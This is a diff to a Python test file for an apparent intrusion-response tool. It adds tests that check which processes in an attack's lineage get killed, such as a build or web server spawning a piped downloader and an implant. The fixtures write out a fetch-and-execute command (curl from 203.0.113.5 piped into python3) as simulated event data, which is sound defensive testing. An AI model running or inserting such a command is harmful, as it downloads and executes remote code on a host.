@@ -1,7 +1,13 @@
 """From an incident to requests: which processes, files, endpoints and users each action
-targets."""
+targets; with the analysis's lineage, the attack's ancestors of the signalling processes
+(never the service it came in through, never a process outside the raised lineage)."""
 
-from provarmor.model.incident import Incident, IncidentNode, NodeRole
+import itertools
+
+from provarmor.graph.lineage import LineageClassifier
+from provarmor.model.actions import Action
+from provarmor.model.event import Event
+from provarmor.model.incident import Incident, IncidentEdge, IncidentNode, NodeRole
 from provarmor.response.planner import plan_requests, request_id, target_key
 from provarmor.response.policy import PolicyRule
 from provarmor.response.records import (
@@ -12,6 +18,7 @@ from provarmor.response.records import (
     ProcessTarget,
     UserTarget,
 )
+from provarmor.testing.factories import entity, make_event
 
 
 def incident(nodes: tuple[IncidentNode, ...], **extra) -> Incident:
@@ -104,3 +111,86 @@ def test_requests_carry_why_and_a_stable_id():
     assert "inc-1" in first.reason and first.host_id == "h"
     assert first.id == request_id("inc-1", target_key(ActionKind.KILL, first.target))
     assert first.id != request_id("inc-2", target_key(ActionKind.KILL, first.target))
+
+
+def _started(pid: int, parent: int, exe: str, *args: str, ts: int) -> list[Event]:
+    fork = make_event(Action.FORK, pid=pid, ppid=parent, exe=exe, ts=ts)
+    run = make_event(Action.EXEC, pid=pid, exe=exe, args=(exe, *args), path=exe, ts=ts + 1)
+    return [fork, run]
+
+
+def _lineage(*events: Event) -> LineageClassifier:
+    classifier = LineageClassifier()
+    for event in events:
+        classifier.observe(event)
+    return classifier
+
+
+def _chain(*pids: int, signalling: int) -> Incident:
+    """A story of the processes ``pids``, each the previous one's child; ``signalling``
+    raised the signal."""
+    nodes = tuple(
+        IncidentNode(
+            id=entity(pid),
+            kind="process",
+            label=str(pid),
+            pid=pid,
+            first_ts=index,
+            alert_ids=("a",) if pid == signalling else (),
+        )
+        for index, pid in enumerate(pids)
+    )
+    edges = tuple(
+        IncidentEdge(src=entity(parent), dst=entity(child), action="fork", first_ts=1, last_ts=1)
+        for parent, child in itertools.pairwise(pids)
+    )
+    return incident(nodes, edges=edges)
+
+
+def _killed(story: Incident, side: LineageClassifier | None) -> list[int]:
+    requests = plan_requests(story, RULE, kinds=(ActionKind.KILL,), side=side)
+    return [r.target.pid for r in requests if isinstance(r.target, ProcessTarget)]
+
+
+def test_a_piped_interpreter_whose_child_signalled_is_a_target_and_its_build_parent_not():
+    """``make`` -> ``sh -c 'curl URL | python3 -'`` -> python3 (takes its tasks from a remote
+    server) -> ``sh -c id`` -> ``id`` (the signal): python3 and its shell are reached, the
+    build above them (lowering lineage) is not."""
+    side = _lineage(
+        *_started(20, 1, "/usr/bin/make", ts=10),
+        *_started(21, 20, "/bin/sh", "-c", "curl -s http://203.0.113.5/a | python3 -", ts=20),
+        *_started(22, 21, "/usr/bin/python3", "-", ts=30),
+        make_event(Action.CONNECT, pid=22, ip="203.0.113.5", port=8443, ts=32),
+        make_event(Action.RECV, pid=22, ip="203.0.113.5", port=8443, ts=33),
+        *_started(23, 22, "/bin/sh", "-c", "id", ts=40),
+        *_started(24, 23, "/usr/bin/id", ts=50),
+    )
+    story = _chain(20, 21, 22, 23, 24, signalling=24)
+    assert _killed(story, side) == [22, 23, 24]
+    assert _killed(story, None) == [24]  # without the lineage: the signalling process only
+
+
+def test_the_service_an_attack_came_in_through_is_never_a_target_only_its_childs_tree():
+    """A web server that accepted the attacker's request (and received its data: raised
+    itself) -> its web-shell ``sh`` -> python3 implant -> ``sh`` -> ``id``: everything below
+    the server, the server not."""
+    side = _lineage(
+        *_started(30, 1, "/usr/bin/python3", "web.py", ts=10),
+        make_event(Action.ACCEPT, pid=30, ip="203.0.113.5", port=40000, ts=12),
+        make_event(Action.RECV, pid=30, ip="203.0.113.5", port=40000, ts=13),
+        *_started(31, 30, "/bin/sh", "-c", "curl -s http://203.0.113.5/a | python3 -", ts=20),
+        *_started(32, 31, "/usr/bin/python3", "-", ts=30),
+        *_started(33, 32, "/bin/sh", "-c", "id", ts=40),
+        *_started(34, 33, "/usr/bin/id", ts=50),
+    )
+    story = _chain(30, 31, 32, 33, 34, signalling=34)
+    assert _killed(story, side) == [31, 32, 33, 34]
+
+
+def test_ancestors_without_a_raised_lineage_are_not_targets():
+    side = _lineage(
+        *_started(40, 1, "/bin/bash", ts=10),
+        *_started(41, 40, "/usr/bin/python3", "tool.py", ts=20),
+        *_started(42, 41, "/usr/bin/id", ts=30),
+    )
+    assert _killed(_chain(40, 41, 42, signalling=42), side) == [42]
